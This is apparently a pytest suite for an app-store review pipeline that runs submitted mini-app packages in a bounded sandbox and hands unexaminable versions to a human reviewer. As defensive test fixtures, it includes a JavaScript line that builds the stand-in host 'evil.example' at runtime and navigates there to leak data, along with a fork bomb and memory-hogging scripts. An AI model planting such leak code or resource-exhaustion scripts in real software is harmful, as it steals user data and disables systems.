"""The examination's second part: a package in a real browser, by a command that is bounded whatever it does; and what
becomes of a version that the machine never comes to an end with."""

from __future__ import annotations

import sys
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import orjson
import pytest

from core.paging import PageRequest
from miniapps.versions.errors import CannotExamine
from miniapps.versions.examining import ChildExaminer, Surroundings
from miniapps.versions.model import Finding, Severity, State, Who
from miniapps.versions.running import NOT_DONE, NOT_RUN, RAN_TOO_LONG, CommandRunner, Examination
from miniapps.versions.unexamined import NOT_EXAMINED, WAITS_AT_MOST, Unexamined
from tests.support.logged import logged
from tests.support.threats import covers
from tests.unit.miniapps.releases.workshop import files
from tests.unit.miniapps.versions.bench import REVIEWER, ZHANG, Bench, sdl

SDK = Path(__file__).parents[4] / "sdk/python/src"
TONG = ("/usr/bin/env", f"PYTHONPATH={SDK}", sys.executable, "-m", "citytong_sdk.tong")
FIRST = PageRequest.of(first=20, after=None)


def python(script: str) -> tuple[str, ...]:
    return sys.executable, "-c", script


def said(**told: object) -> tuple[str, ...]:
    """A command that says this."""
    return python(f"print({orjson.dumps({'ok': True, 'result': {'findings': [], 'left': [], **told}}).decode()!r})")


def finding(rule: str, severity: str) -> dict[str, object]:
    words = {"zh": "某事", "en": "something"}
    place = {"path": "pages/index.html", "line": 0, "column": 0}
    return {"rule": rule, "severity": severity, **place, "message": words, "advice": words, "docs": ""}


@covers("T4")
async def test_a_program_that_leaks_is_refused_by_the_run_alone(bench: Bench) -> None:
    """The rules of what is written do not see it: the address is put together as it runs."""
    program = files(1, city_domains={}, req_permissions=[])
    program["app.js"] = (
        b"const host = ['evil', 'example'];\nlocation.assign('https://' + host.join('.') + '/?who=1');\n"
    )
    program["privacy.json"] = orjson.dumps({"data": []})
    package = bench.workshop.developer.signed(program, at=0)
    bench.versions = replace(bench.versions, examine=Examination(ChildExaminer(sdl), CommandRunner(TONG)))
    refused = await bench.submitted(package=package)
    assert refused.state is State.REJECTED
    errors = [one for one in refused.findings if one.severity is Severity.ERROR]
    leak = next(one for one in errors if one.rule == "R-RUN-LEAK")
    assert (
        "evil.example" in leak.message.en and (leak.where, leak.by) == ("pages/index.html", Who.MACHINE) and leak.docs
    )
    assert {one.rule for one in errors} <= {"R-RUN-LEAK", "R-RUN-BOOT"}


async def test_what_the_rules_refuse_is_not_run(bench: Bench) -> None:
    async def refuses(package: bytes, surroundings: Surroundings) -> list[Finding]:
        return [replace(NOT_DONE, severity=Severity.ERROR)]

    async def never(package: bytes) -> list[Finding]:
        raise AssertionError("it was run")

    bench.versions = replace(bench.versions, examine=Examination(refuses, never))
    assert (await bench.submitted()).state is State.REJECTED


async def test_findings_of_a_run_have_the_city_s_own_severities() -> None:
    told = [finding("R-RUN-LEAK", "note"), finding("R-RUN-PAINT", "error")]
    found = await CommandRunner(said(findings=told, left=["pages/far.html"]))(b"PK")
    assert [(one.rule, one.severity) for one in found] == [
        ("", Severity.WARNING),
        ("R-RUN-LEAK", Severity.ERROR),
        ("R-RUN-PAINT", Severity.WARNING),
    ]
    assert "pages/far.html" in found[0].message.en


async def test_a_machine_that_cannot_run_it_says_so() -> None:
    assert await CommandRunner(())(b"PK") == [NOT_RUN]
    broken = [
        ("/nowhere/tong",),
        python("raise SystemExit(2)"),
        python("print('[]')"),
        # A run finds nothing that only reading does.
        said(findings=[finding("R-EVAL", "note")]),
    ]
    with logged():
        assert [await CommandRunner(command)(b"PK") for command in broken] == [[NOT_DONE]] * len(broken)


async def test_a_run_knows_nothing_of_the_city(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TONG_MASTER_KEY", "secret")
    script = "import json, os; print(json.dumps({'result': {'findings': [], 'left': sorted(os.environ)}}))"
    found = await CommandRunner(python(script))(b"PK")
    assert {one.message.en.removeprefix("Not run: ") for one in found} == {"HOME", "LANG", "PATH", "TMPDIR"}


async def test_a_run_ends_in_time_and_memory_with_all_that_it_began(tmp_path: Path) -> None:
    # One that left its session, and whose parent has ended.
    mark, lives = str(tmp_path), "import time; time.sleep(600)"
    left = f"subprocess.Popen([sys.executable, '-c', {lives!r}, {mark!r}], start_new_session=True)"
    parent = f"import subprocess, sys; {left}"
    script = f"import subprocess, sys; subprocess.run([sys.executable, '-c', {parent!r}]); {lives}"
    assert await CommandRunner(python(script), within_s=3)(b"PK") == [RAN_TOO_LONG]
    assert not [pid for pid in Path("/proc").glob("[0-9]*") if mark in _command_line(pid)]

    # One that goes on beginning others while it is ended.
    many = "import os, time\nwhile os.fork():\n    time.sleep(0.002)\ntime.sleep(600)"
    assert await CommandRunner(python(many), bytes_max=400 * 2**20)(b"PK") == [RAN_TOO_LONG]
    greedy = python("held = bytearray(200 * 2**20); import time; time.sleep(600)")
    assert await CommandRunner(greedy, bytes_max=100 * 2**20)(b"PK") == [RAN_TOO_LONG]


def _command_line(process: Path) -> str:
    try:
        return (process / "cmdline").read_text()
    except OSError:
        return ""


async def test_a_version_that_cannot_be_examined_is_tried_again_and_then_handed_to_an_officer(bench: Bench) -> None:
    async def breaks(package: bytes, surroundings: Surroundings) -> list[Finding]:
        raise CannotExamine()

    unexamined = Unexamined(bench.desk)
    healthy, bench.versions = bench.versions, replace(bench.versions, examine=breaks)
    version = await bench.draft()
    await bench.versions.submit(principal=ZHANG, id=version.id)
    for _ in range(3):
        with pytest.raises(CannotExamine):
            await bench.versions.examine_submitted(version.id)
    await unexamined.hand_over()
    assert (await bench.desk.found(version.id)).state is State.CHECKING

    bench.clock.advance(seconds=WAITS_AT_MOST[State.CHECKING].total_seconds() + 1)
    await unexamined.hand_over()
    await unexamined.hand_over()
    (waits,) = (await bench.reviewing.queue(principal=REVIEWER, request=FIRST)).rows
    assert (waits.id, waits.state, waits.findings) == (version.id, State.IN_REVIEW, (NOT_EXAMINED,))
    assert [step.act.value for step in waits.steps] == ["create", "submit", "examine", "pass"]
    assert waits.steps[-1].note == NOT_EXAMINED.message.en
    # Whoever comes to an end after that changes nothing.
    await healthy.examine_submitted(version.id)
    assert await bench.desk.found(version.id) == waits


async def test_a_version_whose_event_was_lost_is_handed_over_after_a_day(bench: Bench) -> None:
    version, unexamined = await bench.draft(), Unexamined(bench.desk)
    await bench.versions.submit(principal=ZHANG, id=version.id)
    bench.clock.advance(seconds=(WAITS_AT_MOST[State.SUBMITTED] - timedelta(seconds=1)).total_seconds())
    await unexamined.hand_over()
    assert (await bench.desk.found(version.id)).state is State.SUBMITTED
    bench.clock.advance(seconds=1)
    await unexamined.hand_over()
    handed = await bench.desk.found(version.id)
    assert (handed.state, handed.findings) == (State.IN_REVIEW, (NOT_EXAMINED,))
